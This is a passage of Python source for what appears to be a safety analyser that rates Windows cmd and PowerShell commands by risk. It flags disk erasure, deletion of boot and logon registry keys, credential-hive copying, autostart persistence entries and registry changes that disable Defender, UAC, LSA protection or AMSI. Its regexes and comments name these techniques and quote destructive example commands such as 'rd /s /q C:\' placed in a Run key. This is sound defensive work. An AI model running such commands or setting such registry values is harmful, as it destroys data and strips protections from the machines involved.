        "/" + f.lower() for w in cmd.args if w.text.startswith("/") for f in w.text.split("/") if f
    }


def _operands(cmd: Cmd) -> list[Word]:
    return [w for w in cmd.args if not w.text.startswith("/")]


def _del(cmd: Cmd) -> None:
    flags = _win_flags(cmd)
    from aintern_ls.safety.files import _delete_targets

    targets = _operands(cmd)
    if not targets and cmd.scope.family == "cmd":
        from aintern_ls.safety.files import no_target_delete

        no_target_delete(cmd)  # `dir | del`: what the listing names
        return
    if _protected_unknown_delete(cmd, targets, "deletes"):
        return
    recursive = "/s" in flags
    _delete_targets(cmd, targets, recursive, "deletes")


def _rd(cmd: Cmd) -> None:
    flags = _win_flags(cmd)
    from aintern_ls.safety.files import _delete_targets

    if "/s" not in flags:
        cmd.add(M, "rmdir", "removes empty directories")
        return
    if not _operands(cmd) and cmd.scope.family == "cmd":
        from aintern_ls.safety.files import no_target_delete

        no_target_delete(cmd)  # `dir /b /ad | rd /s /q`
        return
    if (
        cmd.scope.env
        and ESP_DRIVE in cmd.scope.env
        and _protected_unknown_delete(cmd, _operands(cmd), "deletes")
    ):
        return
    _delete_targets(cmd, _operands(cmd), True, "deletes")


def _format(cmd: Cmd) -> None:
    ops = _operands(cmd)
    if not ops or _help(cmd):
        return
    cmd.add(B, "mkfs", f"format erases the drive {ops[0].text}", ops[0])


# diskpart's verbs: it takes any prefix of three letters or more (`sel dis 1`, `cle`,
# `cre par pri`, `for fs=ntfs quick`), so a script is judged by each line's first word.
_DISKPART_ERASE = ("clean", "format", "delete")
_DISKPART_READ = names("list detail select help rem exit rescan filesystems automount")
# A line break in the script: a real one, PowerShell's `n / `r escapes left in the text,
# or the `&` cmd joins echoed lines with.
_DISKPART_LINES = re.compile(r"[\r\n&;]|`[nr]")


def _diskpart_verbs(script: str) -> tuple[bool, bool]:
    """(erases, changes): whether a diskpart script erases a disk or partition, and whether
    it changes one at all (any verb that is not a read: list, detail, select, help ...)."""
    erases = changes = False
    for line in _DISKPART_LINES.split(script[:20000]):
        word = line.strip().strip("\"'(").split(" ", 1)[0].lower()
        if len(word) < 3 or not word.isalpha():
            continue
        if word in ("echo", "@echo"):
            continue
        if any(v.startswith(word) for v in _DISKPART_ERASE):
            erases = changes = True
            break
        if not any(v.startswith(word) for v in _DISKPART_READ):
            changes = True
    return erases, changes


def _diskpart(cmd: Cmd) -> None:
    script = _option_script(cmd)
    erases, changes = _diskpart_verbs(script) if script is not None else (False, False)
    if erases:
        cmd.add(B, "disk-wipe", "the diskpart script erases a disk or partition")
        return
    if script is not None and not changes:
        return  # `list disk`, `detail volume`: the script it runs only reads
    if script is not None:
        cmd.add(C, "disk", "the diskpart script changes disks or partitions")
        return
    if any(w.text.lower() in ("/s", "-s") for w in cmd.args):
        # A diskpart script the analyser cannot read: opaque, so critical (asks first); a
        # visible one (a heredoc, echo lines, a file this block wrote) is judged above
        # (the session-13 convention).
        cmd.add(C, "disk", "runs a diskpart script the analyser cannot read (it can erase disks)")
        return
    cmd.add(C, "disk", "diskpart can erase disks and partitions")


# Services and drivers without which Windows does not start or nobody can log on: the disk,
# volume and file-system stack, plug and play, RPC and DCOM, the session and account
# managers, the user profile service; (n19w) and without which nobody reaches it again: the
# TCP/IP stack and its socket and store drivers, the DHCP and DNS clients, the event log and
# WMI (a deleted service's registration is not restored by a reboot or by sfc).
_BOOT_SERVICES = (
    r"(?:acpi|pci|disk|partmgr|volmgrx?|mountmgr|volume|ntfs|refs|fltmgr|ksecdd|cng|classpnp"
    r"|storahci|stornvme|storport|iastor[av]?|msrpc|rpcss|rpceptmapper|dcomlaunch|lsm|samss"
    r"|profsvc|plugplay|power|brokerinfrastructure|gpsvc|netlogon"
    r"|tcpip6?|afd|nsi|dhcp|dnscache|eventlog|winmgmt)"
)
_BOOT_KEY = re.compile(
    r"\Ahklm:?[\\/]+system(?:[\\/]+(?:select|(?:currentcontrolset|controlset\d{3})"
    r"(?:[\\/]+(?:services(?:[\\/]+" + _BOOT_SERVICES + r")?|control(?:[\\/]+"
    r"(?:safeboot|session manager|lsa|class|nls|hivelist|servicegrouporder|grouporderlist"
    r"|criticaldevicedatabase))?|enum|hardware profiles))?))?[\\/]*\Z",
    re.I,
)


# The keys Windows reads to log anyone on (session 14: "registry keys Windows needs to boot
# or log on, deleted: blocked"): Winlogon (the logon shell and Userinit), the profile list,
# the credential providers that draw the logon screen.
_LOGON_KEY = re.compile(
    r"(?i)\Ahklm:?[\\/]+software[\\/]+(?:wow6432node[\\/]+)?microsoft[\\/]+"
    r"(?:windows nt[\\/]+currentversion[\\/]+(?:winlogon|profilelist)"
    r"|windows[\\/]+currentversion[\\/]+authentication(?:[\\/]+credential providers)?)"
    r"[\\/]*\Z"
)


# Values whose absence stops logon: Winlogon's Userinit and Shell (no desktop, no session),
# LSA's authentication and security packages (no way to check a password); `*`: every value
# of the key (Clear-Item).
_LOGON_VALUE = re.compile(
    r"(?i)\\(?:winlogon [\\/]v \"?(?:userinit|shell|\*)"
    r"|lsa [\\/]v \"?(?:authentication packages|security packages|\*))\"?\s*\Z"
)


# The BCD store loaded as a hive (`HKLM\BCD00000000`, its Objects and their Elements): the
# boot manager's entries themselves.
_BCD_KEY = re.compile(r"(?i)\Ahklm:?[\\/]+bcd00000000(?:[\\/]|\Z)")


_BOOT_SERVICE = re.compile(r"(?i)" + _BOOT_SERVICES + r"\Z")


def boot_service(name: str) -> bool:
    """A service or driver Windows needs to boot or log anyone on (`RpcSs`, `disk`)."""
    return _BOOT_SERVICE.match(name.strip("'\"")) is not None


# (n17w) the concrete names `_BOOT_SERVICES` spells, for wildcard patterns to be tried on
_BOOT_SERVICE_NAMES = tuple(
    names(
        """
    acpi pci disk partmgr volmgr volmgrx mountmgr volume ntfs refs fltmgr ksecdd cng classpnp
    storahci stornvme storport iastor iastora iastorv msrpc rpcss rpceptmapper dcomlaunch lsm
    samss profsvc plugplay power brokerinfrastructure gpsvc netlogon tcpip tcpip6 afd nsi dhcp
    dnscache eventlog winmgmt
    """
    )
)


# (w22) HKCR classes without which programs, scripts, links or the shell do not start
_SHELL_CLASSES = frozenset(
    names(
        """
        * .exe .com .bat .cmd .lnk .msc .dll exefile comfile batfile cmdfile lnkfile mscfile
        dllfile clsid interface typelib appid directory folder drive allfilesystemobjects
        desktopbackground network systemfilesassociations unknown http https htmlfile
        """
    )
)


def boot_service_like(pattern: str) -> str | None:
    """The first core service a WQL `LIKE` (`%`, `_`) or PowerShell `-like` (`*`, `?`)
    pattern matches (`Rpc%` -> `rpcss`), else None."""
    rx = "".join(
        ".*" if c in "%*" else "." if c in "?_" else re.escape(c) for c in pattern.strip("'\"")
    )
    try:
        matcher = re.compile(rx + r"\Z", re.I)
    except re.error:
        return None
    return next((n for n in _BOOT_SERVICE_NAMES if matcher.match(n)), None)


def boot_registry_key(key: str) -> bool:
    """`HKLM\\SYSTEM\\CurrentControlSet`, its Services/Control trees, SafeBoot, Session
    Manager, LSA, the BCD store: deleting them leaves a machine that does not boot (boot
    configuration)."""
    key = key.replace("hkey_local_machine", "hklm")
    return bool(_BOOT_KEY.match(key) or _BCD_KEY.match(key) or _LOGON_KEY.match(key))


def _reg(cmd: Cmd) -> None:
    ops = _operands(cmd)
    verb = ops[0].text.lower() if ops else ""
    key = ops[1].text if len(ops) > 1 else ""
    if _help(cmd):
        return  # `reg delete /?`: the verb's help
    # `reg delete \\\\host\\HKLM\\SYSTEM`: another machine's key, judged as that key
    host = re.match(r"\\\\[^\\/]+[\\/]+", key) if key.startswith("\\\\") else None
    if host is not None:
        key = key[host.end() :]
    if verb in ("query", "compare", ""):
        if host is not None:
            cmd.add(M, "network", f"reg {verb} reads another machine's registry", ops[1])
        elif verb == "query" and key and not _win_flags(cmd) & {"/v", "/ve", "/f"}:
            # `reg query KEY | % { reg delete $_ /f }`: what it prints is KEY's subkeys
            w = ops[1]
            cmd.info.paths = (Word(key.rstrip("\\") + "\\*", w.start, w.end, False, True),)
        return
    low = key.lower().replace("hkey_local_machine", "hklm").replace("hkey_classes_root", "hkcr")
    low = low.replace("hkey_current_user", "hkcu").replace("hkey_users", "hku")
    if low.startswith("hk") and ":" in low[:5]:
        low = low.replace(":", "", 1)  # (a provider spelling handed on by a loop: `HKLM:\X`)
    if low.endswith("*"):
        # `HKLM\SOFTWARE\*` (a loop over a `reg query` listing): every subkey is the tree
        low = re.sub(r"(?:[\\/]\*)+\Z", "", low)
    if verb in ("save", "export") and re.match(r"\Ahklm[\\/](sam|security|system)\b", low):
        cmd.add(C, "credential-dump", f"copies the {key} hive, which holds password hashes")
        return
    if verb == "delete":
        parts = [p for p in re.split(r"[\\/]", low) if p]
        # `/v NAME` deletes one value of the key, not the key (safety-m8)
        one_value = "/v" in _win_flags(cmd)
        if boot_registry_key(low) and not one_value:
            cmd.add(B, "registry-root", f"deletes {key}, which Windows needs to boot", ops[1])
        elif (
            one_value
            and (value := _flag_value(cmd, "/v")) is not None
            and (gone_value := registry_value_deleted(_reg_norm(f'{low} /v "{value}"')))[0] == B
        ):
            cmd.add(B, gone_value[1], f"reg delete {key} /v {value}: {gone_value[2]}", ops[1])
        elif (
            parts
            and parts[0] in ("hklm", "hkcr", "hku")
            and len(parts) <= 2
            and not one_value
            and not (parts[0] == "hkcr" and len(parts) == 2 and parts[1] not in _SHELL_CLASSES)
        ):
            # (w22, blind19) one class under HKCR (`HKCR\ms-msdt`, the Follina mitigation; a
            # program's protocol or file type) is one key (dangerous, as the same key under
            # HKLM\SOFTWARE\Classes); the classes every program start or the shell needs are
            # not (`HKCR\exefile`, `HKCR\.exe`, `HKCR\CLSID`, `HKCR\*`)
            cmd.add(B, "registry-root", f"deletes the registry hive {key}", ops[1])
        elif (hit := registry_risk(low)) is not None and hit[1] == "disable-security":
            cmd.add(C, "disable-security", f"reg delete {key}: {hit[2]}", ops[1])
        elif (
            gone := security_setting_weakened(_reg_norm(" ".join(cmd.texts())), deleted=True)
        ) is not None:
            cmd.add(C, "disable-security", f"reg delete {key}: {gone}", ops[1])  # (m8)
        elif (
            not one_value
            and "/va" not in _win_flags(cmd)  # (`/va`: every value of the key, not the key)
            and parts[:1] in (["hklm"], ["hkcu"])
            and (verdict := hive_key_deleted(parts[0], "\\".join(parts[1:])))[0] > D
        ):
            cmd.add(verdict[0], verdict[1], f"reg delete {key}: {verdict[2]}", ops[1])
        else:
            cmd.add(
                D,
                "registry-delete",
                f"deletes the registry key {key}",
                ops[1] if len(ops) > 1 else None,
            )
        return
    if verb == "restore" and len(ops) > 2:
        parts = [p for p in re.split(r"[\\/]", low) if p]
        if boot_registry_key(low) or (
            parts[:1] == ["hklm"]
            and len(parts) == 2
            and parts[1] in ("sam", "security", "system", "software")
        ):
            # `reg restore HKLM\SYSTEM f.hiv`: the whole hive is replaced by the file's.
            cmd.add(B, "registry-root", f"reg restore replaces the registry hive {key}", ops[1])
            return
    if verb in ("import", "restore") and len(ops) > 1:
        # The settings come from a file: judge its text when this block wrote it; an unseen
        # file can hold any autostart entry or protection switch.
        _registry_file(cmd, ops[-1] if verb == "import" else ops[2] if len(ops) > 2 else ops[1])
        return
    if not _registry_write_risk(cmd):
        cmd.add(M, "registry", f"reg {verb} changes the registry")


def _regini(cmd: Cmd) -> None:
    files = [w for w in cmd.args if not w.text.startswith(("-", "/"))]
    if files:
        _registry_file(cmd, files[-1])


def _registry_file(cmd: Cmd, file: Word) -> None:
    """`reg import x.reg`, `regedit /s x.reg`, `regini x.txt`: registry writes read from a
    file."""
    written = cmd.scope.written.get(file.text.replace("\\", "/").rsplit("/", 1)[-1])
    if written is None:
        cmd.add(
            C,
            "registry-import",
            f"{cmd.name} imports registry settings from {file.text}, which the analyser cannot"
            " read (it can add autostart entries or turn protections off)",
        )
        return
    gone = reg_file_deletes(written[0])
    if gone is not None:
        cmd.add(gone[0], gone[1], f"the imported file {gone[2]}")
        if gone[0] >= B:
            return
    hit = registry_risk(written[0])
    if hit is not None:
        cmd.add(hit[0], hit[1], f"the imported file {hit[2][0].lower()}{hit[2][1:]}")
    elif gone is None:
        cmd.add(M, "registry", f"{cmd.name} imports registry settings")


# A .reg file's deletions: `[-HKEY_LOCAL_MACHINE\X]` deletes the key X and everything
# below it; `"Name"=-` under `[KEY]` deletes that value.
_REG_FILE_KEY = re.compile(r"(?m)^\s*\[(-?)([^\]\r\n]{1,300})\]")
_REG_FILE_VALUE_GONE = re.compile(r'(?m)^\s*"([^"\r\n]{1,200})"\s*=\s*-\s*$')


def reg_file_deletes(text: str) -> tuple[RiskLevel, str, str] | None:
    """The worst deletion a .reg file's text makes, or None when it deletes nothing."""
    if "-" not in text or "[" not in text:
        return None
    worst: tuple[RiskLevel, str, str] | None = None
    keys = list(_REG_FILE_KEY.finditer(text[:20000]))
    for i, m in enumerate(keys):
        key = _reg_key(m.group(2).strip())
        if key is None:
            continue
        hive, _, rest = key.partition("\\")
        if m.group(1):
            verdict = hive_key_deleted(hive, rest)
        else:
            body = text[m.end() : keys[i + 1].start() if i + 1 < len(keys) else len(text)]
            names_gone = _REG_FILE_VALUE_GONE.findall(body[:4000])
            if not names_gone:
                continue
            verdict = max(
                (registry_value_deleted(_reg_norm(f'{key} /v "{n}"')) for n in names_gone),
                key=lambda v: v[0],
            )
        if worst is None or verdict[0] > worst[0]:
            worst = (verdict[0], verdict[1], verdict[2][0].lower() + verdict[2][1:])
    return worst


# WMI's registry provider (`StdRegProv`): DeleteKey / DeleteValue with a hive number.
_STDREG_HIVES = {
    "2147483650": "hklm",
    "0x80000002": "hklm",
    "2147483649": "hkcu",
    "0x80000001": "hkcu",
    "2147483651": "hku",
    "0x80000003": "hku",
    "2147483648": "hkcr",
    "0x80000000": "hkcr",
}
_STDREG_DELETE = re.compile(
    r"(?i)\bdelete(key|value)\b.{0,300}?(2147483648|2147483649|2147483650|2147483651"
    r"|0x8000000[0-3])\D.{0,200}?['\"]([^'\"]{1,300})['\"](?:.{0,200}?['\"]([^'\"]{1,200})['\"])?",
    re.S,
)


def stdregprov_deletes(text: str, scope: Scope) -> None:
    """`Invoke-CimMethod -ClassName StdRegProv -MethodName DeleteKey -Arguments @{hDefKey=
    2147483650; sSubKeyName='SYSTEM\\CurrentControlSet'}`, `([wmiclass]'StdRegProv')
    .DeleteKey(2147483650, 'SOFTWARE')`: judged as the key or value deleted."""
    for level, rule, reason, start, end in stdregprov_verdicts(text):
        scope.add(level, rule, reason, start, end)


def stdregprov_verdicts(text: str) -> list[tuple[RiskLevel, str, str, int, int]]:
    out: list[tuple[RiskLevel, str, str, int, int]] = []
    for m in _STDREG_DELETE.finditer(text[:20000]):
        hive = _STDREG_HIVES[m.group(2).lower()]
        key = _reg_join(hive, m.group(3))
        if m.group(1).lower() == "key":
            level, rule, reason = hive_key_deleted(hive, key.partition("\\")[2])
        else:
            value = m.group(4) or ""
            level, rule, reason = registry_value_deleted(_reg_norm(f'{key} /v "{value}"'))
        out.append((level, rule, f"{reason} (WMI StdRegProv)", m.start(), m.end()))
    return out


_STATEMENT_END = re.compile(r"[;|&]")


def _registry_resolved(cmd: Cmd, params: dict[str, Word | None]) -> str:
    """The key an item cmdlet's path names through a Registry PSDrive or the registry
    working directory (`Set-ItemProperty -Path Run …` after `cd HKCU:\\…\\CurrentVersion`),
    in normal form; empty when neither is in use or the path is not in the registry."""
    if _REG_ANY not in cmd.scope.env:
        return ""
    path = params.get("path") or params.get("literalpath")
    if path is None:
        path = next((w for w in cmd.args if not w.text.startswith("-")), None)
    return (registry_location(cmd.scope, path.text) or "") if path is not None else ""


_SESSION_DRIVE = re.compile(r"(?i)\A(?:env|variable|function|alias):")


def _remove_itemproperty(cmd: Cmd) -> None:
    """`Remove-ItemProperty -Path HKLM:\\…\\Lsa -Name RunAsPPL` (or through a Registry
    PSDrive or `cd` into the registry): deleting a value, judged as `reg delete /v`."""
    params, positional = _ps_params(cmd)
    if "whatif" in params:
        return
    path = params.get("path") or params.get("literalpath") or next(iter(positional), None)
    name = params.get("name") or (positional[1] if len(positional) > 1 else None)
    if cmd.name == "clear-item" and path is not None:
        if _SESSION_DRIVE.match(path.text.strip("'\"")):
            # (h19) `Clear-Item Env:FOO`, `Clear-Item Variable:x`: a value of this session
            # emptied (as Remove-Variable), nothing on disk
            cmd.add(M, "write", "Clear-Item empties a variable of this session")
            return
        # `Clear-Item HKLM:\…\Lsa`: every value of the key is deleted
        name = Word("*", path.start, path.end)
    loc = registry_location(cmd.scope, path.text) if path is not None else None
    if loc is not None and name is not None and not name.dynamic:
        level, rule, reason = registry_value_deleted(_reg_norm(f'{loc} /v "{name.text}"'))
        if level > D:
            cmd.add(level, rule, reason, name)
            return
    _danger_cmdlet(cmd)


def _registry_write_risk(cmd: Cmd, resolved: str = "") -> bool:
    """Registry writes that disable protections or add autostart entries."""
    # The source text too: PowerShell reads an unquoted `{GUID}` in a key path as a script
    # block, so the words alone may miss the key.
    source = cmd.scope.source
    eol = source.find("\n", cmd.start)
    stop = eol if eol >= 0 else len(source)
    # …up to the end of its statement: a long line of other commands (`mkdir a; mkdir b; …`)
    # is not read again for each of them.
    end = _STATEMENT_END.search(source, max(cmd.start, cmd.end), stop)
    src = source[cmd.start : end.start() if end is not None else stop][:2000]
    hit = registry_risk(resolved + " " + " ".join(cmd.texts()) + " " + src)
    if hit is None:
        return False
    level, rule, reason = hit
    cmd.add(level, rule, reason)
    if rule.startswith("persistence"):
        _autostart_payload(cmd)
    return True


def _autostart_payload(cmd: Cmd) -> None:
    """The command line an autostart value holds (`reg add …\\Run /d "cmd /c rd /s /q C:\\"`,
    `New-ItemProperty …\\Run -Value '…'`) runs at the next logon: what it would do if run
    is what this line sets up, so a blocked payload is blocked."""
    args = cmd.args
    for i, w in enumerate(args[:-1]):
        flag = w.text.lower()
        if flag == "/d" or (
            cmd.scope.family == "powershell" and len(flag) > 1 and "-value".startswith(flag)
        ):
            payload = args[i + 1]
            if payload.dynamic or " " not in payload.text.strip():
                return
            found = cmd.scope.nested(payload.text, "cmd", payload, -1)
            cmd.scope.include([f for f in found if f.level >= B])
            return


# --- autostart extension points and protections in the registry ----------------------------
# Keys and values Windows reads to start code on its own (Sysinternals Autoruns' catalogue,
# MITRE ATT&CK T1546/T1547/T1548, atomic-red-team): a write to any of them is persistence,
# whatever tool writes it (reg add/import/copy/restore, New-ItemProperty/Set-ItemProperty,
# .NET Registry APIs, WMI StdRegProv, regini). Matched on text normalised by `_reg_norm`.
_HIVES = (
    ("hkey_local_machine", "hklm"),
    ("hkey_current_user", "hkcu"),
    ("hkey_classes_root", "hkcr"),
    ("hkey_users", "hku"),
    ("hkey_current_config", "hkcc"),
)


def _reg_norm(text: str) -> str:
    # (each step only when its text is there: every PowerShell write cmdlet asks)
    t = text.lower().replace("/", "\\")
    if "\\\\" in t:
        t = re.sub(r"\\+", r"\\", t)
    if "hkey_" in t:
        for long, short in _HIVES:
            t = t.replace(long, short)
    if "registry::" in t:
        t = t.replace("registry::", "")
    if "wow6432node" in t:
        t = t.replace("wow6432node\\", "")
    if "hk" not in t:
        return t
    return re.sub(r"\b(hklm|hkcu|hkcr|hku|hkcc):", r"\1", t)


_ASEP: tuple[tuple[re.Pattern[str], str, str], ...] = tuple(
    (re.compile(rx), rule, reason)
    for rx, rule, reason in (
        (
            r"\\currentversion\\(run|runonce|runonceex|runservices|runservicesonce)\b"
            r"|\\policies\\explorer\\run\b",
            "persistence-registry",
            "a Run key: Windows starts the program at every logon or boot",
        ),
        (
            r"\\winlogon\b|userinitmprlogonscript|\\group policy\\scripts\\"
            r"|\\system\\scripts\\(startup|logon|shutdown|logoff)",
            "persistence-registry",
            "a logon entry (Winlogon Userinit/Shell/Notify, logon scripts): runs at every logon",
        ),
        (
            r"\\command processor\b.*\bautorun\b|\\active setup\\installed components"
            r"|\\terminal server\\.*\b(startupprograms|initialprogram)\b|\\wds\\rdpwd"
            r"|\\windows nt\\currentversion\\windows\b.*(\\v\s+|-name\s+|,\s*)[\"']?(load|run)\b"
            r"|scrnsave\.exe|\\explorer\\(user )?shell folders\b.*\b(common )?startup\b"
            r"|\\control\\safeboot\b.*alternateshell|\\bootverificationprogram"
            r"|\\currentversion\\app paths\\|\\control panel\\cpls\b",
            "persistence-registry",
            "an autostart entry (cmd AutoRun, Active Setup, RDP start program, screen saver,"
            " Startup folder location, App Paths): Windows runs the program on its own",
        ),
        (
            r"\\session manager\b.*\b(bootexecute|setupexecute|execute|s0initialcommand"
            r"|knowndlls|pendingfilerenameoperations)\b|\\session manager\\knowndlls",
            "persistence-registry",
            "a Session Manager entry: the program or DLL runs while Windows boots",
        ),
        (
            r"\\image file execution options\\|\\silentprocessexit\\|monitorprocess"
            r"|\\aedebug\b|\\windows error reporting\\hangs",
            "persistence-debugger",
            "a debugger hook (Image File Execution Options, SilentProcessExit, AeDebug):"
            " the program runs whenever another one starts or exits",
        ),
        (
            r"appinit_dlls|loadappinit_dlls|appcertdlls"
            r"|\\control\\lsa\b.*\b(security packages|authentication packages"
            r"|notification packages)\b|\\lsa\\osconfig|\\control\\securityproviders"
            r"|\\microsoft\\netsh\b|\\control\\print\\(monitors"
            r"|environments\\[^\\]+\\print processors)"
            r"|\\w32time\\timeproviders|\\networkprovider\b"
            r"|\\winsock2\\parameters\\(protocol_catalog9|namespace_catalog5)"
            r"|\\authentication\\credential provider|\\appcompatflags\\(custom|installedsdb)"
            r"|\\cryptography\\(oid|providers\\trust)\\|\\cor_(profiler|enable_profiling)\b"
            r"|\bcor_(profiler|enable_profiling)\w*|\bcoreclr_(profiler|enable_profiling)\w*",
            "persistence-dll",
            "a DLL Windows loads into other programs (AppInit/AppCert DLLs, LSA or security"
            " packages, netsh helper, print monitor, providers, .NET profiler)",
        ),
        (
            r"\\office test\\special\\perf|\\office\\[^\\]+\\[^\\]+\\addins\\"
            r"|\\office\\[^\\]+\\outlook\\(webview|today)\b"
            r"|\\office\\[^\\]+\\(word|excel|powerpoint)\\options\b",
            "persistence-dll",
            "an Office add-in or start-up hook: the code runs whenever Office starts",
        ),
        (
            r"\\clsid\\\{[^}\\]*\}\\(inprocserver32|localserver32|inprochandler32|treatas"
            r"|scriptleturl|progid|shell)\b|\\shell\\[^\\]+\\command\b|delegateexecute"
            r"|\\shellex\\|\\browser helper objects|shellserviceobjectdelayload"
            r"|shellexecutehooks|\\shellserviceobjects\\|\\shelliconoverlayidentifiers",
            "persistence-com",
            "a COM or shell-handler hijack (CLSID server, shell\\open\\command, DelegateExecute):"
            " the program runs when Windows or an auto-elevated tool opens that class",
        ),
        (
            # a svchost group: `svchost -k NAME` loads every service DLL listed (safety-art6)
            r"\\windows nt\\currentversion\\svchost\b.*(\\v\s+|-name\s+)\S"
            r"|\\currentcontrolset\\services\\[^\\]+.*\b(imagepath|servicedll|failurecommand)\b"
            r"|\\services\\[^\\]+\\parameters\b.*\bservicedll\b",
            "persistence-service",
            "a service's program (ImagePath, ServiceDll, FailureCommand): it runs as SYSTEM",
        ),
        (
            r"\\environment\b.*(\\v\s+|-name\s+|,\s*)[\"']?(path|pathext|windir|systemroot"
            r"|comspec|psmodulepath)[\"']?(\s|,|$)",
            "persistence-registry",
            "changes PATH or a system folder variable for every later session"
            " (programs found there run instead of the real ones)",
        ),
    )
)
# Protections switched off through the registry.
_REG_SECURITY: tuple[tuple[re.Pattern[str], str], ...] = tuple(
    (re.compile(rx), reason)
    for rx, reason in (
        (
            r"\\windows defender\b|\\windows advanced threat protection\b|disableantispyware"
            r"|disablerealtimemonitoring|disablebehaviormonitoring|disableantivirus"
            r"|tamperprotection|\\spynet\b",
            "changes Microsoft Defender settings in the registry (turns protection off or adds"
            " exclusions)",
        ),
        (
            r"\\services\\(windefend|wdboot|wdfilter|wdnisdrv|wdnissvc|sense|mpssvc|bfe|wscsvc"
            r"|securityhealthservice|eventlog|sysmon\w*|sysmondrv|webthreatdefsvc|mdcoresvc)\b"
            r"|\\control\\wmi\\autologger\\(eventlog-|defender|sysmon)",
            "disables a security or logging service through its registry key",
        ),
        (
            r"enablelua\D+0|consentpromptbehavior(admin|user)\D+0|promptonsecuredesktop\D+0"
            r"|disabletaskmgr|disableregistrytools|disablecmd\b"
            # LSA protection turned off (set to 1/2 it is turned on) (sig7)
            r"|\\lsa\b.*\b(runasppl|runaspplboot|isppl\w*)\b\D+0\b"
            r"|\\wdigest\b.*uselogoncredential|enablesmartscreen|shellsmartscreenlevel"
            # LSA weakened (safety-art6): LM hashes kept or sent, anonymous access, blank
            # passwords over the network (Restricted Admin is moderate in corpus.tsv)
            r"|\\lsa\b.*(lmcompatibilitylevel\D+[012]\b"
            r"|nolmhash\D+0\b|restrictanonymous(sam)?\D+0\b|everyoneincludesanonymous\D+1\b"
            r"|limitblankpassworduse\D+0\b|disabledomaincreds\D+0\b)"
            r"|smartscreenenabled|scriptblocklogging|enablescriptblocklogging|\\windowsfirewall\\"
            r"|\\firewallpolicy\\.*enablefirewall|enablefirewall\D+0|savezoneinformation",
            "turns off a Windows protection (UAC, LSA protection, SmartScreen, firewall,"
            " script logging, credential guard settings)",
        ),
        (
            # Office macro and Protected View protections (safety-art6): VBAWarnings 1 runs
            # every macro unasked, Disable*InPV opens internet files outside the sandbox.
            r"\\office\\[^\\]+\\\w+\\security\b.*(vbawarnings\D+1\b|disable\w*inpv\D+1\b"
            r"|blockcontentexecutionfrominternet\D+0\b|accessvbom\D+1\b|markinternalasunsafe\D+0\b)",
            "turns off an Office protection (macros run unasked, Protected View off, VBA"
            " object model opened)",
        ),
        (
            r"fdenytsconnections\D+0|userauthentication\D+0|localaccounttokenfilterpolicy",
            "opens remote access to this machine (RDP or remote admin)",
        ),
        (
            r"\\microsoft\\amsi\b|\\windows script\\settings\b.*amsienable",
            "changes the Antimalware Scan Interface (AMSI) registration: scripts are no longer"
            " scanned",
        ),
    )
)


def _unanchored(patterns: list[str]) -> re.Pattern[str]:
    """The alternatives of `patterns` that can match text without a backslash (those with
    no literal `\\` outside a character class), as one pattern: a text with no backslash
    matches one of `patterns` only if it matches this (a cheap first look)."""
    alts: list[str] = []
    for p in patterns:
        depth, cur, i = 0, "", 0
        parts: list[str] = []
        while i < len(p):
            c = p[i]
            if c == "\\":
                cur += p[i : i + 2]
                i += 2
                continue
            if c in "([":
                depth += 1
            elif c in ")]":
                depth -= 1
            if c == "|" and depth == 0:
                parts.append(cur)
                cur = ""
            else:
                cur += c
            i += 1
        parts.append(cur)
        for a in parts:
            if "\\\\" not in re.sub(r"\[(?:\\.|[^\]])*\]", "", a):
                alts.append(f"(?:{a})")
    return re.compile("|".join(alts) or "(?!)")


def _needed_literals(rx: re.Pattern[str]) -> tuple[str, ...] | None:
    """Texts one of which every match of `rx` contains: for each top-level alternative, its
    longest run of literal characters outside any group, class or repeat (a match of that
    alternative holds the run as written), or what each alternative of a branch it must
    go through needs; None when some alternative needs no such text, or the pattern
    ignores case (then only the pattern can tell)."""
    if rx.flags & re.IGNORECASE:
        return None
    try:
        parser: Any = importlib.import_module("re._parser")
        parsed = list(parser.parse(rx.pattern, rx.flags))
        if parsed and parsed[0][0] is parser.LITERAL:
            return None  # (a literal prefix: the engine's own first look is cheaper)
        return _needed_in(parsed, parser.LITERAL, parser.BRANCH)
    except Exception:  # (another Python's parser: no gate, the pattern decides)
        return None


def _needed_in(seq: list[Any], literal: object, branch: object) -> tuple[str, ...] | None:
    best, run = "", ""
    for op, av in [*seq, (None, None)]:
        if op is literal:
            run += chr(av)
            continue
        best = run if len(run) > len(best) else best
        run = ""
    if len(best) >= 3:
        return (best,)
    for op, av in seq:
        if op is branch:
            # `\\a\b|\\c`: the parser takes the common `\\` out before a branch; every
            # match goes through one of the branch's alternatives
            found = [_needed_in(list(alt), literal, branch) for alt in av[1]]
            if all(f is not None for f in found):
                return tuple(n for f in found if f is not None for n in f)
    return (best,) if len(best) >= 2 else None


def _may_match(needed: tuple[str, ...] | None, text: str) -> bool:
    """False only when `text` holds none of the texts a pattern's every match needs."""
    if needed is None:
        return True
    # (a loop, not `any(…)`: asked for every registry-capable write)
    for n in needed:  # noqa: SIM110
        if n in text:
            return True
    return False


def registry_risk(text: str) -> tuple[RiskLevel, str, str] | None:
    """What writing the registry key/value spelled somewhere in `text` means, when it is more
    than a settings change: a protection switched off or an autostart entry (critical)."""
    t = _reg_norm(text)
    if _REG_NEEDED is not None and _REG_NEEDED.search(t) is None:
        # (none of the texts the patterns below need is there: one look, not sixteen)
        if "\\" not in t:
            return None
        weakened = security_setting_weakened(t)
        return (C, "disable-security", weakened) if weakened is not None else None
    if "\\" not in t and _REG_UNANCHORED.search(t) is None:
        return None  # (most writes name no registry key: one cheap look, not sixteen)
    if _SYSTEM_RESTORE_OFF.search(t):
        return C, "backup-off", "turns System Restore off (no restore points from now on)"
    if "\\policies\\" in t and _BACKUP_POLICY.search(t):
        # `…\Policies\Microsoft\Windows\Backup\Client /v DisableBackupToDisk /d 1`,
        # File History `Disabled 1`: backups turned off by policy
        return C, "backup-off", "turns Windows Backup or File History off by policy"
    # (each pattern asked only when the text holds a literal its every match needs: the
    # test written out, not called, as it runs for every registry-capable write)
    for (rx, reason), needed in _REG_SECURITY_GATED:
        if needed is not None:
            for n in needed:
                if n in t:
                    break
            else:
                continue
        if rx.search(t):
            return C, "disable-security", reason
    for (rx, rule, reason), needed in _ASEP_GATED:
        if needed is not None:
            for n in needed:
                if n in t:
                    break
            else:
                continue
        if rx.search(t):
            return C, rule, f"writes {reason}"
    if (weakened := security_setting_weakened(t)) is not None:
        return C, "disable-security", weakened  # any protection's value, by its shape (m8)
    return None


_BACKUP_POLICY = re.compile(
    r"\\policies\\.*(?:\b(?:disable\w*backup\w*|disablebackup\w*)\b"
    r"|\\filehistory\b.*\bdisabled\b)\D*\b1\b"
)
